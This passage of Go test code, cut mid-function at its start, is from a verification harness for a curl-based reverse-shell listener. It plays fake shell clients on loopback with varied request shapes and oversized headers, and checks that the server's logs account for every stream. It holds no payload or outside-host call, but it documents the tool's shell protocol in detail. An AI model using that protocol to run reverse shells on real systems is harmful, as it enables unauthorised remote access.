				case rc.Msg == bk.MsgDisconnected:
					discs++
				case rc.Msg == bk.MsgShellIO:
					if news == 0 {
						viol(host, "io-record-of-unattached-stream", fmt.Sprintf("Shell I/O record before any connect record of the %s stream of %s: %s", d, host, trunc(rc.Raw)), res)
					}
					if d == "input" {
						viol(host, "undelivered-input-logged", fmt.Sprintf("nothing was typed but the log holds an input record: %s", trunc(rc.Raw)), res)
					} else {
						outData.WriteString(rc.Data)
					}
				case isRefusalRecord(rc.Level, rc.Msg):
					refs++
				}
			}
			switch {
			case news == 1 && discs == 1:
				r.Count("abort_streams_admitted", 1)
			case news == 0 && discs == 0 && refs >= 1:
				r.Count("abort_streams_refused", 1)
			case news == 0 && discs == 0:
				viol(host, "refusal-record-count", fmt.Sprintf("the %s stream of %s (%s) was handled but has neither a connect record nor an error record naming why it was turned away", d, host, res.Plan.Target), res)
			case news != 1:
				viol(host, "connect-record-count", fmt.Sprintf("the %s stream of %s has %d New connection records", d, host, news), res)
			default:
				viol(host, "disconnect-record-count", fmt.Sprintf("the %s stream of %s has %d New connection and %d Disconnected records although the server has finished with the connection", d, host, news, discs), res)
			}
		}
		if o := outData.String(); !strings.HasPrefix(res.BodySent, o) {
			viol(host, "undelivered-output-logged", fmt.Sprintf("output records of %s hold %q, the client sent only %q", host, trunc(o), trunc(res.BodySent)), res)
		} else if o != "" {
			r.Count("abort_output_bytes_logged", int64(len(o)))
		}
	}
	for j, res := range results {
		p := plans[j]
		r.Count("abort_clients", 1)
		r.Count("abort_stage:"+p.Stage, 1)
		r.Count("abort_end:"+p.End, 1)
		if strings.HasPrefix(res.Note, "dial:") || strings.HasPrefix(res.Note, "handshake:") {
			r.Inconclusive(fmt.Sprintf("aborts round %d client %d: %s", k, j, res.Note))
			continue
		}
		judgeOne(p.Host, p.dirs(), res, false)
		r.Eval(1)
		r.Distinct(fmt.Sprintf("aborts|%s|%s|%s|%s", p.Class, p.Stage, p.End, occMode))
	}
	if occMode != "none" {
		judgeOne(occHost, []string{"input", "output"}, abortResult{Plan: abortPlan{Host: occHost, Target: "occupant " + occMode}, FullHeader: true, Status: 200}, true)
	}
	r.Count("abort_rounds", 1)
	if k == 0 {
		var ex []abortResult
		for _, res := range results {
			if len(ex) < 3 && res.FullHeader {
				ex = append(ex, res)
			}
		}
		r.Sample("aborts", map[string]any{"occupant": occMode, "clients": len(results), "examples": ex})
	}
}

// abortingClients runs the rounds one after the other (quiesce looks at the
// whole process).
func abortingClients(r *mon.Run) {
	n := r.N(12, 96)
	for k := 0; k < n; k++ {
		if r.Want("aborts", k) {
			abortRound(r, k)
		}
	}
	r.Floor("abort_rounds", int64(n))
	r.Floor("abort_quiescence_points", int64(n))
	r.Floor("abort_clients", int64(n*abortClientsPerRound))
	per := int64(n * abortClientsPerRound / (len(abortTargets) * len(abortStages) * len(abortEnds)))
	for _, st := range abortStages {
		r.Floor("abort_stage:"+st, per*int64(len(abortTargets)*len(abortEnds)))
	}
	for _, e := range abortEnds {
		r.Floor("abort_end:"+e, per*int64(len(abortTargets)*len(abortStages)))
	}
	// what depends on the kernel's timing: floors far below the usual counts
	// (half the clients send a whole request; a quarter of the resetting /io
	// clients usually make the header flush fail)
	r.Floor("abort_clients_handled", int64(n*abortClientsPerRound/4))
	r.Floor("abort_clients_told_to_operator", int64(n*abortClientsPerRound/8))
	r.Floor("abort_streams_refused", int64(n*5))
	r.Floor("abort_streams_admitted", int64(n))
	r.Floor("abort_header_flush_failures", int64(n/4))
}

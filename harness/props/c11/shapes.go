package c11

import (
	"bufio"
	"crypto/tls"
	"encoding/json"
	"fmt"
	"io"
	"math/rand/v2"
	"net"
	"net/http"
	"runtime"
	"strings"
	"time"

	"github.com/magisterquis/curlrevshell/verifharness/mon"
	"github.com/magisterquis/curlrevshell/verifharness/mon/bk"
	"github.com/magisterquis/curlrevshell/verifharness/mon/hk"
)

// Engine "shapes": the shape of the REQUEST that asks for a stream.  The
// other engines' fake shells speak the way curl does (GET /i/id, chunked POST
// /o/id and /io); here every streaming endpoint is asked for with every
// method and every way of framing a request body, while the broker is idle,
// holds the other half of a shell (with the same or another id) or a whole
// shell.  Clients come one at a time, each from its own loopback address (as
// in the aborts engine), send a COMPLETE request, wait until the program
// demonstrably dealt with it (a notice to the operator about the address, a
// record naming it, or the handler's answer), and leave.  Once the server has
// finished with every connection of the case the log must account for every
// stream that was handled.

var (
	shapeMethods   = []string{"GET", "POST", "PUT", "HEAD", "BREW"}
	shapeFramings  = []string{"none", "cl0", "cl", "chunked-empty", "chunked-data", "http10-nocl", "http10-cl", "expect"}
	shapeEndpoints = []string{"/i/", "/o/", "/io"}
	shapeStates    = []string{"idle", "half-same-id", "half-other-id", "full"}
)

const shapeCasesPerRound = 48

func shapeCombos() int {
	return len(shapeMethods) * len(shapeFramings) * len(shapeEndpoints) * len(shapeStates)
}

type shapePlan struct {
	Host     string `json:"host"`
	Method   string `json:"method"`
	Framing  string `json:"framing"`
	Endpoint string `json:"endpoint"`
	State    string `json:"broker_state"`
	Target   string `json:"target"`
	ID       string `json:"-"`
	Body     string `json:"body"`
	Open     bool   `json:"body_left_unfinished"` // declared length not reached / no last chunk
	Chunked  bool   `json:"-"`                    // for "expect": how the body is framed
	TLSClose bool   `json:"tls_close"`
	Nap      int    `json:"nap_us"`
	// the occupant(s) of the broker
	Occ []shapeOcc `json:"occupants"`
}

type shapeOcc struct {
	Host   string   `json:"host"`
	Reqs   []string `json:"requests"`
	Dirs   []string `json:"directions"`
	Notice string   `json:"-"` // what the operator is told once it is in
}

type shapeResult struct {
	Plan     shapePlan `json:"plan"`
	Request  string    `json:"request_header"`
	BodySent string    `json:"body_sent"`
	Status   int       `json:"status"`
	Evidence string    `json:"first_notice_or_record,omitempty"`
	Note     string    `json:"note,omitempty"`
}

// planShape: the combination (method, framing, endpoint, broker state) comes
// from the position alone (every tier covers every combination the same
// number of times, spread over the rounds); ids, bodies, the occupant's kind
// and the way the client leaves come from the round's PRNG.
func planShape(k, j int, rng *rand.Rand) shapePlan {
	c := ((k*shapeCasesPerRound + j) * 77) % shapeCombos() // 77 is coprime to the number of combinations
	p := shapePlan{
		Host:     fmt.Sprintf("127.%d.%d.1", 80+k%100, j+1),
		Method:   shapeMethods[c%len(shapeMethods)],
		Framing:  shapeFramings[(c/len(shapeMethods))%len(shapeFramings)],
		Endpoint: shapeEndpoints[(c/(len(shapeMethods)*len(shapeFramings)))%len(shapeEndpoints)],
		State:    shapeStates[c/(len(shapeMethods)*len(shapeFramings)*len(shapeEndpoints))],
		ID:       fmt.Sprintf("sh%d-%d%s", k, j, []string{"", "_x", ".y", "-0"}[rng.IntN(4)]),
		Body:     fmt.Sprintf("<shape-%d-%d:%s>", k, j, strings.Repeat("z", rng.IntN(30))),
		Open:     rng.IntN(3) == 0,
		Chunked:  rng.IntN(2) == 0,
		TLSClose: rng.IntN(2) == 0,
		Nap:      []int{0, 0, 50, 500, 3000}[rng.IntN(5)],
	}
	p.Target = p.Endpoint
	if p.Endpoint != "/io" {
		p.Target += p.ID
	} else if rng.IntN(4) == 0 {
		p.Target = "/io/"
	}
	switch p.Framing {
	case "none", "cl0", "chunked-empty", "http10-nocl":
		p.Body, p.Open = "", false
	case "http10-cl":
		// a 1.0 client cannot do anything but send what it declared
		p.Open = false
	}
	occHost := fmt.Sprintf("127.%d.%d.2", 80+k%100, j+1)
	otherID := p.ID + "-other"
	half := func(dir, id string) shapeOcc {
		if dir == "input" {
			return shapeOcc{Host: occHost, Dirs: []string{"input"}, Notice: "Input connected",
				Reqs: []string{"GET /i/" + id + " HTTP/1.1\r\nHost: occupant\r\n\r\n"}}
		}
		return shapeOcc{Host: occHost, Dirs: []string{"output"}, Notice: "Output connected",
			Reqs: []string{"POST /o/" + id + " HTTP/1.1\r\nHost: occupant\r\nTransfer-Encoding: chunked\r\n\r\n"}}
	}
	switch p.State {
	case "half-same-id":
		switch p.Endpoint {
		case "/i/":
			p.Occ = []shapeOcc{half("output", p.ID)}
		case "/o/":
			p.Occ = []shapeOcc{half("input", p.ID)}
		default: // a bidirectional request has no id of its own: either half
			p.Occ = []shapeOcc{half([]string{"input", "output"}[rng.IntN(2)], p.ID)}
		}
	case "half-other-id":
		p.Occ = []shapeOcc{half([]string{"input", "output"}[rng.IntN(2)], otherID)}
	case "full":
		id := []string{p.ID, otherID}[rng.IntN(2)]
		if rng.IntN(2) == 0 {
			p.Occ = []shapeOcc{{Host: occHost, Dirs: []string{"input", "output"}, Notice: "Shell is ready",
				Reqs: []string{"POST /io HTTP/1.1\r\nHost: occupant\r\nTransfer-Encoding: chunked\r\n\r\n"}}}
		} else {
			o := half("input", id)
			o.Reqs = append(o.Reqs, half("output", id).Reqs...)
			o.Dirs = []string{"input", "output"}
			o.Notice = "Shell is ready"
			p.Occ = []shapeOcc{o}
		}
	}
	return p
}

func (p shapePlan) dirs() []string {
	switch p.Endpoint {
	case "/io":
		return []string{"input", "output"}
	case "/i/":
		return []string{"input"}
	}
	return []string{"output"}
}

// request renders the header, the body bytes that go out with it and the
// body bytes that go out later (for Expect: 100-continue).
func (p shapePlan) request() (hdr, with, later string) {
	proto := "HTTP/1.1"
	if strings.HasPrefix(p.Framing, "http10") {
		proto = "HTTP/1.0"
	}
	h := p.Method + " " + p.Target + " " + proto + "\r\nHost: shape.test\r\nUser-Agent: shapes\r\n"
	fixed := func() string {
		if p.Open {
			return p.Body[:len(p.Body)/2]
		}
		return p.Body
	}
	chunked := func() string {
		s := fmt.Sprintf("%x\r\n%s\r\n", len(p.Body), p.Body)
		if !p.Open {
			s += "0\r\n\r\n"
		}
		return s
	}
	switch p.Framing {
	case "none", "http10-nocl":
	case "cl0":
		h += "Content-Length: 0\r\n"
	case "cl", "http10-cl":
		h += fmt.Sprintf("Content-Length: %d\r\n", len(p.Body))
		with = fixed()
	case "chunked-empty":
		h += "Transfer-Encoding: chunked\r\n"
		with = "0\r\n\r\n"
	case "chunked-data":
		h += "Transfer-Encoding: chunked\r\n"
		with = chunked()
	case "expect":
		h += "Expect: 100-continue\r\n"
		if p.Chunked {
			h += "Transfer-Encoding: chunked\r\n"
			later = chunked()
		} else {
			h += fmt.Sprintf("Content-Length: %d\r\n", len(p.Body))
			later = fixed()
		}
	}
	return h + "\r\n", with, later
}

// bodyData is what of the plan's body a request's body bytes carry.
func (p shapePlan) bodyData() string {
	if p.Body == "" {
		return ""
	}
	if p.Open && !(p.Framing == "chunked-data" || (p.Framing == "expect" && p.Chunked)) {
		return p.Body[:len(p.Body)/2]
	}
	return p.Body
}

// selfEnding: the request's body ends by itself, so that an output stream made
// of it ends without the client leaving.
func (p shapePlan) selfEnding() bool { return !p.Open }

func aboutHost(host string) func(bk.Event) bool {
	pre := "[" + host + "] "
	ra := `"remote_addr":"` + host + `:`
	return func(e bk.Event) bool {
		switch e.Kind {
		case "op":
			return !e.Plain && strings.HasPrefix(e.S, pre)
		case "json":
			return strings.Contains(e.S, ra)
		}
		return false
	}
}

// runShape plays one client.  Every wait is for a logical condition (the
// program's answer, or the first notice or record about this address),
// bounded by hk.Bound.
func runShape(s *hk.Server, p shapePlan) (res shapeResult) {
	res.Plan = p
	from := s.Log.Len()
	tcp, err := dialFrom(p.Host, s.Addr)
	if err != nil {
		res.Note = "dial: " + err.Error()
		return
	}
	defer tcp.Close()
	tc := tls.Client(tcp, &tls.Config{InsecureSkipVerify: true})
	tc.SetDeadline(time.Now().Add(hk.Bound))
	if err := tc.Handshake(); err != nil {
		res.Note = "handshake: " + err.Error()
		return
	}
	tc.SetDeadline(time.Time{})
	hdr, with, later := p.request()
	res.Request = hdr
	tc.SetWriteDeadline(time.Now().Add(hk.Bound))
	if _, err := io.WriteString(tc, hdr+with); err != nil {
		res.Note = "request not sent: " + err.Error()
		return
	}
	if with != "" {
		res.BodySent = p.bodyData()
	}
	// answers, as they come (an interim 100 Continue, then the real one)
	statusCh := make(chan int, 8)
	statuses := (<-chan int)(statusCh)
	go func() {
		defer close(statusCh)
		br := bufio.NewReader(tc)
		for {
			hr, err := http.ReadResponse(br, &http.Request{Method: p.Method})
			if err != nil {
				return
			}
			statusCh <- hr.StatusCode
			if hr.StatusCode >= 200 {
				return
			}
		}
	}()
	// the first notice or record about this client
	evidenceCh := make(chan string, 1)
	evidence := (<-chan string)(evidenceCh)
	go func() {
		if e, ok := s.Log.Wait(from, hk.Bound, aboutHost(p.Host)); ok {
			evidenceCh <- e.Kind + ": " + trunc(strings.TrimSpace(e.S))
		}
		close(evidenceCh)
	}()
	watchdog := time.After(hk.Bound)
	final, reacted, dead := false, false, false
	// step takes the next thing the program lets us see; false = nothing more will come
	step := func() bool {
		if dead || (statuses == nil && evidence == nil) {
			return false
		}
		select {
		case st, ok := <-statuses:
			if !ok {
				statuses = nil // the connection ended without (another) answer
				return true
			}
			reacted = true
			if st >= 200 {
				res.Status = st
				final = true
			}
		case ev, ok := <-evidence:
			evidence = nil
			if ok {
				res.Evidence = ev
				reacted = true
			}
		case <-watchdog:
			dead = true
			res.Note = "no answer, notice or record within " + hk.Bound.String()
			return false
		}
		return true
	}
	for !reacted && step() {
	}
	if later != "" {
		// the go-ahead came, or the program is already busy with the request, or
		// has answered: a client may send the body it announced in any case
		tc.SetWriteDeadline(time.Now().Add(hk.Bound))
		io.WriteString(tc, later)
		res.BodySent = p.bodyData() // at most this
	}
	// until the program demonstrably dealt with the request
	for res.Evidence == "" && !final && step() {
	}
	if p.Endpoint == "/o/" && p.selfEnding() {
		// an output stream whose body is over ends by itself (and a refused one
		// is answered at once): let it
		for !final && statuses != nil && step() {
		}
	}
	if p.Nap > 0 {
		time.Sleep(time.Duration(p.Nap) * time.Microsecond) // schedule perturbation only
	}
	if p.TLSClose {
		tc.SetWriteDeadline(time.Now().Add(hk.Bound))
		tc.Close()
	}
	tcp.Close()
	return
}

// shapeCloser: a chunked POST /o/id without any chunk, answered once the
// stream has ended.
func shapeCloser(host, addr, id string) (int, error) {
	tcp, err := dialFrom(host, addr)
	if err != nil {
		return 0, err
	}
	defer tcp.Close()
	tc := tls.Client(tcp, &tls.Config{InsecureSkipVerify: true})
	tc.SetDeadline(time.Now().Add(hk.Bound))
	if _, err := io.WriteString(tc, "POST /o/"+id+" HTTP/1.1\r\nHost: closer\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n0\r\n\r\n"); err != nil {
		return 0, err
	}
	hr, err := http.ReadResponse(bufio.NewReader(tc), &http.Request{Method: "POST"})
	if err != nil {
		return 0, err
	}
	return hr.StatusCode, nil
}

// noServing waits until no connection-serving goroutine of a http.Server is
// left in this process (see quiesce, which puts a sentinel request in front).
func noServing() error {
	deadline := time.Now().Add(3 * hk.Bound)
	buf := make([]byte, 1<<20)
	for {
		n := runtime.Stack(buf, true)
		if n == len(buf) {
			buf = make([]byte, 2*len(buf))
			continue
		}
		if !strings.Contains(string(buf[:n]), servingRe) {
			return nil
		}
		if time.Now().After(deadline) {
			return fmt.Errorf("connections still being served after %s", 3*hk.Bound)
		}
		time.Sleep(time.Millisecond)
	}
}

func shapeRound(r *mon.Run, k int) {
	rng := r.Rng("shapes", k)
	s, err := hk.Start(hk.Config{})
	if err != nil {
		r.Inconclusive("shapes: server did not start: " + err.Error())
		return
	}
	defer s.Stop()
	for j := 0; j < shapeCasesPerRound; j++ {
		if !shapeCase(r, s, k, j, planShape(k, j, rng)) {
			return
		}
	}
	r.Count("shape_rounds", 1)
}

// shapeCase plays one case on a broker nobody is attached to and judges it;
// false = the round cannot go on.
func shapeCase(r *mon.Run, s *hk.Server, k, j int, p shapePlan) bool {
	start := s.Log.Len()
	var occConns []*tls.Conn
	closeOcc := func() {
		for _, c := range occConns {
			c.Close()
		}
		occConns = nil
	}
	defer closeOcc()
	for _, o := range p.Occ {
		for i, req := range o.Reqs {
			tcp, err := dialFrom(o.Host, s.Addr)
			if err != nil {
				r.Inconclusive("shapes: " + err.Error())
				return false
			}
			tc := tls.Client(tcp, &tls.Config{InsecureSkipVerify: true})
			occConns = append(occConns, tc)
			tc.SetDeadline(time.Now().Add(hk.Bound))
			if _, err := io.WriteString(tc, req); err != nil {
				r.Inconclusive("shapes: occupant: " + err.Error())
				return false
			}
			want := o.Notice
			if i+1 < len(o.Reqs) {
				want = "Input connected"
			}
			pre := "[" + o.Host + "] "
			if _, ok := s.Log.Wait(start, hk.Bound, func(e bk.Event) bool {
				return e.Kind == "op" && !e.Plain && strings.HasPrefix(e.S, pre) && strings.Contains(e.S, want)
			}); !ok {
				r.Inconclusive(fmt.Sprintf("shapes round %d case %d: the occupant did not attach (%s)", k, j, want))
				return false
			}
		}
	}
	res := runShape(s, p)
	closeOcc()
	if strings.HasPrefix(res.Note, "dial:") || strings.HasPrefix(res.Note, "handshake:") || strings.HasPrefix(res.Note, "request not sent:") {
		r.Inconclusive(fmt.Sprintf("shapes round %d case %d: %s", k, j, res.Note))
		return false
	}
	// A request for the input side that came with a body nobody reads: the HTTP
	// library does not watch such a connection, so the program cannot know the
	// client has left before it next writes to it.  If it is attached alone, the
	// matching output side comes, ends by itself and so takes the shell down.
	closerHost := ""
	if p.Endpoint == "/i/" && p.State == "idle" && !(p.Framing == "none" || p.Framing == "cl0" || p.Framing == "http10-nocl") {
		closerHost = fmt.Sprintf("127.%d.%d.3", 80+k%100, j+1)
		st, err := shapeCloser(closerHost, s.Addr, p.ID)
		if err != nil || st != 200 {
			r.Inconclusive(fmt.Sprintf("shapes round %d case %d: the output side sent to end the shell was not answered (status %d, %v)", k, j, st, err))
			return false
		}
		r.Count("shape_input_with_unread_body_ended_by_output_side", 1)
	}
	// the server is done with every connection of this case
	if res.Status == 0 && res.Evidence == "" {
		err := quiesce(s.Addr) // nothing shows that the request ever arrived: put a sentinel behind it
		if err != nil {
			r.Inconclusive(fmt.Sprintf("shapes round %d case %d: %v", k, j, err))
			return false
		}
	} else if err := noServing(); err != nil {
		r.Inconclusive(fmt.Sprintf("shapes round %d case %d: %v", k, j, err))
		return false
	}
	mseq, ok := s.Mark(fmt.Sprintf("MARK-SHAPES-%d-%d", k, j))
	if !ok {
		r.Inconclusive("shapes: marker lost")
		return false
	}
	evs := s.Log.Snapshot()[start:mseq]
	// ---- what the operator was told and what the log holds, per source address ----
	ops := map[string][]string{}
	recs := map[string][]abortRec{}
	var plainOut, recOut strings.Builder
	viol := func(host, key, what string) {
		var tail []string
		for _, e := range evs {
			if (e.Kind == "op" || e.Kind == "json") && strings.Contains(e.S, host) {
				tail = append(tail, e.Kind+": "+trunc(strings.TrimSpace(e.S)))
			}
		}
		r.Violate("shapes", k, key, what, map[string]any{"case": j, "client": res, "notices_and_records_of_this_address": tail})
	}
	for _, e := range evs {
		switch e.Kind {
		case "op":
			if e.Plain {
				plainOut.WriteString(e.S)
				continue
			}
			if m := noticeRe.FindStringSubmatch(e.S); m != nil {
				ops[m[1]] = append(ops[m[1]], m[2])
			}
		case "json":
			r.Count("shape_json_lines", 1)
			var m map[string]any
			dec := json.NewDecoder(strings.NewReader(e.S))
			if err := dec.Decode(&m); err != nil || !strings.HasSuffix(e.S, "\n") || strings.Count(e.S, "\n") != 1 || dec.More() {
				viol(p.Host, "log-line-not-json", fmt.Sprintf("a log write is not one complete one-line JSON object: %q", trunc(e.S)))
				continue
			}
			rc := abortRec{Raw: strings.TrimSpace(e.S)}
			rc.Level, _ = m["level"].(string)
			rc.Msg, _ = m["msg"].(string)
			rc.Dir, _ = m["direction"].(string)
			rc.Data, _ = m["data"].(string)
			if rc.Msg == bk.MsgShellIO && rc.Dir == "output" {
				recOut.WriteString(rc.Data)
			}
			hr, _ := m["http_request"].(map[string]any)
			ra, _ := hr["remote_addr"].(string)
			host, _, err := net.SplitHostPort(ra)
			if err != nil {
				continue
			}
			recs[host] = append(recs[host], rc)
		}
	}
	// judgeHost: every stream of a request the program handled is accounted for
	judgeHost := func(host, what string, dirs []string, answered bool, sent string, client bool) {
		told, got := ops[host], recs[host]
		handled := len(told) > 0 || len(got) > 0 || answered
		if !handled {
			if client {
				r.Count("shape_clients_never_handled", 1)
			}
			return
		}
		if client {
			r.Count("shape_clients_handled", 1)
			r.Count("shape_handled:"+p.Endpoint+":"+p.Framing, 1)
			r.Count("shape_handled_method:"+p.Method, 1)
			r.Count("shape_handled_state:"+p.State, 1)
			if len(told) > 0 {
				r.Count("shape_clients_told_to_operator", 1)
			}
			if answered {
				r.Count("shape_clients_answered", 1)
			}
		}
		if len(got) == 0 {
			if len(told) > 0 {
				viol(host, "operator-told-but-no-log-record", fmt.Sprintf("the operator was told %q about the request %s from %s but the JSON log holds no record of it (neither a connect/disconnect pair nor an error record naming a reason)", told[0], what, host))
			} else {
				viol(host, "handled-stream-has-no-record", fmt.Sprintf("the request %s from %s was answered by the handler but the JSON log holds no record of it", what, host))
			}
			return
		}
		var outData strings.Builder
		for _, d := range dirs {
			news, discs, refs := 0, 0, 0
			for _, rc := range got {
				if rc.Dir != d && !(rc.Dir == "" && isRefusalRecord(rc.Level, rc.Msg)) {
					continue
				}
				switch {
				case rc.Msg == bk.MsgNew:
					news++
				case rc.Msg == bk.MsgDisconnected:
					discs++
				case rc.Msg == bk.MsgShellIO:
					if news == 0 {
						viol(host, "io-record-of-unattached-stream", fmt.Sprintf("Shell I/O record before any connect record of the %s stream of %s: %s", d, host, trunc(rc.Raw)))
					}
					if d == "input" {
						viol(host, "undelivered-input-logged", fmt.Sprintf("nothing was typed but the log holds an input record: %s", trunc(rc.Raw)))
					} else {
						outData.WriteString(rc.Data)
					}
				case isRefusalRecord(rc.Level, rc.Msg):
					refs++
				}
			}
			switch {
			case news == 1 && discs == 1:
				if client {
					r.Count("shape_streams_admitted", 1)
					r.Count("shape_admitted:"+p.Endpoint, 1)
				} else {
					r.Count("shape_occupant_streams_admitted", 1)
				}
			case news == 0 && discs == 0 && refs >= 1:
				if client {
					r.Count("shape_streams_refused", 1)
					r.Count("shape_refused:"+p.Endpoint, 1)
				} else {
					viol(host, "refusal-record-count", fmt.Sprintf("the %s stream of the occupant %s, which the operator was told about, has no connect record", d, host))
				}
			case news == 0 && discs == 0:
				viol(host, "refusal-record-count", fmt.Sprintf("the %s stream of %s (%s) was handled but has neither a connect record nor an error record naming why it was turned away", d, host, what))
			case news != 1:
				viol(host, "connect-record-count", fmt.Sprintf("the %s stream of %s (%s) has %d New connection records", d, host, what, news))
			default:
				viol(host, "disconnect-record-count", fmt.Sprintf("the %s stream of %s (%s) has %d New connection and %d Disconnected records although the server has finished with the connection", d, host, what, news, discs))
			}
		}
		if o := outData.String(); !strings.HasPrefix(sent, o) {
			viol(host, "undelivered-output-logged", fmt.Sprintf("output records of %s hold %q, the client sent at most %q", host, trunc(o), trunc(sent)))
		} else if o != "" {
			r.Count("shape_output_bytes_logged", int64(len(o)))
		}
	}
	what := fmt.Sprintf("%q (body framing %s, broker %s)", strings.SplitN(res.Request, "\r\n", 2)[0], p.Framing, p.State)
	judgeHost(p.Host, what, p.dirs(), res.Status == 200, res.BodySent, true)
	for _, o := range p.Occ {
		judgeHost(o.Host, "of the occupant", o.Dirs, true, "", false)
	}
	if closerHost != "" {
		judgeHost(closerHost, "of the output side that ended the shell", []string{"output"}, true, "", false)
	}
	// what reached the operator as shell output and what the log says did
	if plainOut.String() != recOut.String() {
		viol(p.Host, "output-record-mismatch", fmt.Sprintf("the operator was handed %q as shell output, the log's output records hold %q", trunc(plainOut.String()), trunc(recOut.String())))
	}
	if res.Note != "" {
		// the watchdog fired: whatever the records say, this is not a clean observation
		r.Inconclusive(fmt.Sprintf("shapes round %d case %d (%s): %s", k, j, what, res.Note))
	}
	r.Count("shape_cases", 1)
	r.Count("shape_method:"+p.Method, 1)
	r.Count("shape_framing:"+p.Framing, 1)
	r.Count("shape_endpoint:"+p.Endpoint, 1)
	r.Count("shape_state:"+p.State, 1)
	r.Eval(1)
	r.Distinct(fmt.Sprintf("shapes|%s|%s|%s|%s", p.Method, p.Framing, p.Endpoint, p.State))
	if k == 0 && j < 3 {
		r.Sample("shapes", res)
	}
	return true
}

// requestShapes runs the rounds one after the other (quiescence is decided
// by looking at the whole process, as in the aborts engine).
func requestShapes(r *mon.Run) {
	passes := r.N(1, 4)
	rounds := passes * shapeCombos() / shapeCasesPerRound
	for k := 0; k < rounds; k++ {
		if r.Want("shapes", k) {
			shapeRound(r, k)
		}
	}
	n := int64(passes * shapeCombos())
	r.Floor("shape_rounds", int64(rounds))
	r.Floor("shape_cases", n)
	for _, v := range shapeMethods {
		r.Floor("shape_method:"+v, n/int64(len(shapeMethods)))
		r.Floor("shape_handled_method:"+v, n/int64(len(shapeMethods))*3/4)
	}
	for _, v := range shapeFramings {
		r.Floor("shape_framing:"+v, n/int64(len(shapeFramings)))
	}
	for _, v := range shapeEndpoints {
		r.Floor("shape_endpoint:"+v, n/int64(len(shapeEndpoints)))
		// every endpoint demonstrably dealt with every kind of body framing
		for _, f := range shapeFramings {
			r.Floor("shape_handled:"+v+":"+f, n/int64(len(shapeEndpoints)*len(shapeFramings))*3/4)
		}
		r.Floor("shape_admitted:"+v, n/40)
		r.Floor("shape_refused:"+v, n/12)
	}
	for _, v := range shapeStates {
		r.Floor("shape_state:"+v, n/int64(len(shapeStates)))
		r.Floor("shape_handled_state:"+v, n/int64(len(shapeStates))*3/4)
	}
	r.Floor("shape_clients_handled", n*3/4)
	r.Floor("shape_clients_told_to_operator", n/2)
	r.Floor("shape_clients_answered", n/4)
	r.Floor("shape_occupant_streams_admitted", n/2)
	r.Floor("shape_output_bytes_logged", n)
}

package c11

import (
	"bufio"
	"crypto/tls"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"math/rand/v2"
	"net"
	"net/http"
	"os"
	"strings"
	"sync"
	"time"

	"github.com/magisterquis/curlrevshell/verifharness/mon"
	"github.com/magisterquis/curlrevshell/verifharness/mon/bk"
	"github.com/magisterquis/curlrevshell/verifharness/mon/hk"
)

// Engine "bighead": stream requests whose HEAD (request line and header
// lines) is large.  The other engines' clients send a request line and two or
// three short header lines, a few hundred bytes in all; here the id in
// /i/{id} and /o/{id} is 4-512 KiB long, or the request carries a query, a
// path tail (/io/...), 1-100 extra header lines of up to 64 KiB each, a fat
// Cookie or a long User-Agent, for heads of 4 KiB up to 1 MiB - net/http's
// default limit for a request head, which the program does not change, so
// every such request is one the program serves.  Such a request is accepted
// (it comes first or second of a shell's two connections, or is a /io) or
// refused for every reason a running shell gives (the same direction is taken,
// the other direction is held under another id, a whole shell is attached).
// Lines are typed to and output is sent by every shell a big request became
// part of.  Clients come one case at a time, each from its own loopback
// address; once the server has finished with every connection of the case
// the records of every stream must be what they are for a small request.

var (
	bigEndpoints = []string{"/i/", "/o/", "/io"}
	bigOutcomes  = []string{"accepted-first", "accepted-second", "refused-same-direction", "refused-other-id", "refused-full-shell"}
	bigKinds     = []string{"id", "header-lines", "one-header", "cookie", "user-agent", "query", "mixed"}
	bigSizes     = []string{"4-16K", "16-64K", "64-256K", "256K-1M", "near-1M"}
)

const (
	bigCasesPerRound = 15
	// bigLimit: net/http's DefaultMaxHeaderBytes.  A server that does not set
	// MaxHeaderBytes reads a head of up to this many bytes (and 4 KiB more).
	bigLimit   = 1 << 20
	bigMaxID   = 512 << 10
	bigMaxLine = 64 << 10
)

type bigPlan struct {
	Host     string `json:"host"`
	Partner  string `json:"partner_host"`
	Endpoint string `json:"endpoint"`
	Outcome  string `json:"outcome"`
	Kind     string `json:"kind"`
	Size     string `json:"size_class"`
	Total    int    `json:"head_bytes"`
	IDLen    int    `json:"id_bytes"`
	TailLen  int    `json:"path_tail_bytes,omitempty"`
	QueryLen int    `json:"query_bytes,omitempty"`
	NLines   int    `json:"extra_header_lines"`
	MaxLine  int    `json:"longest_header_line_bytes"`
	UALen    int    `json:"user_agent_bytes"`
	Cookie   int    `json:"cookie_bytes,omitempty"`
	OccKind  string `json:"occupant,omitempty"`
	OccBigID bool   `json:"occupant_has_the_same_id,omitempty"`
	End      string `json:"end"`

	id     string
	head   string
	target string
	lines  []string // typed to the shell
	chunks []string // sent by the shell
}

type bigResult struct {
	Plan      bigPlan `json:"plan"`
	ReqLine   string  `json:"request_line"`
	Status    int     `json:"status"`
	Evidence  string  `json:"first_notice_or_record,omitempty"`
	WriteErr  string  `json:"error_sending_the_head,omitempty"`
	ConnEnded bool    `json:"server_ended_the_connection_without_an_answer,omitempty"`
	Note      string  `json:"note,omitempty"`
}

const bigIDChars = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789-_.~"

func bigFill(rng *rand.Rand, n int, alphabet string) string {
	if n <= 0 {
		return ""
	}
	b := make([]byte, n)
	// a short random stretch repeated: cheap, and never the same twice
	m := 37 + rng.IntN(64)
	if m > n {
		m = n
	}
	for i := 0; i < m; i++ {
		b[i] = alphabet[rng.IntN(len(alphabet))]
	}
	for i := m; i < n; i++ {
		b[i] = b[i-m]
	}
	return string(b)
}

const bigValueChars = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789 ;=,./+-_:()\"%"

// planBig: the combination (endpoint, outcome, kind, size class) comes from
// the position alone; sizes within the class, ids, header names, traffic and
// the ending come from the round's PRNG.
func planBig(i int, k, j int, rng *rand.Rand) bigPlan {
	period := len(bigEndpoints) * len(bigOutcomes) * len(bigKinds) // 105, pairwise coprime radices
	p := bigPlan{
		Host:     fmt.Sprintf("127.%d.%d.1", 190+k%60, j+1),
		Partner:  fmt.Sprintf("127.%d.%d.2", 190+k%60, j+1),
		Endpoint: bigEndpoints[i%len(bigEndpoints)],
		Outcome:  bigOutcomes[(i/len(bigEndpoints))%len(bigOutcomes)],
		Kind:     bigKinds[i%len(bigKinds)],
		Size:     bigSizes[(i+i/period)%len(bigSizes)],
